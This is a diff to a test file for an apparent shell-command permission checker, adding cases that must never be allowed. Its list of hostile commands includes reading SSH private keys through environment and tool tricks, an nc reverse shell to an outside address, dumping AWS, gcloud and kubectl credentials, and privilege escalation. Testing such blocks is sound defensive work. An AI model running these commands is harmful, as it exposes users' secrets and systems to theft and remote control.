@@ -479,6 +479,39 @@ describe('more side doors: environment, traps, archivers', () => {
   });
 });
 
+describe('the security corpus misses in the shell judge', () => {
+  it.each([
+    'find . -name notes.txt -exec sh -c "id" \\;',
+    "find . -execdir sh -c 'id' \\;",
+    'CDPATH=~ cd .ssh && cat id_rsa',
+    'HOME=~/.ssh; cat ~/id_rsa',
+    'export HOME=$HOME/.ssh; cat ~/id_rsa',
+    'echo "$(<~/.ssh/id_rsa)"',
+    "npx -c 'cat ~/.ssh/id_rsa'",
+    "make -f /dev/stdin <<< $'x:\\n\\tcat ~/.ssh/id_rsa'",
+    'python3 -m http.server --directory ~ 8000',
+    'docker run --rm -v ~:/h alpine cat /h/.ssh/id_rsa',
+    'nc -e /bin/sh 1.1.1.1 4444',
+    'ssh -R 8080:localhost:7411 u@1.1.1.1',
+    'aws configure get aws_secret_access_key',
+    'gcloud auth print-access-token',
+    'kubectl config view --raw',
+    'pass show email',
+    'secret-tool lookup service x',
+    'cpio -o < /tmp/list > /tmp/x.cpio',
+    "watch -n1 'id'",
+    'su -c id',
+    'sudo -s',
+    "expect -c 'spawn id'",
+    "tclsh <<< 'exec id'",
+    'wget -e use_proxy=yes -e http_proxy=127.0.0.1:7411 http://1.1.1.1/',
+    'http_proxy=127.0.0.1:7411 curl http://1.1.1.1/',
+  ])('%s is never allowed', (cmd) => {
+    const ex = bash(cmd);
+    expect(verdicts(ex)).not.toContain('allow');
+  });
+});
+
 describe('copies into a folder', () => {
   it.each([
     ['cp evil.sh ~', `${HOME}/evil.sh`],
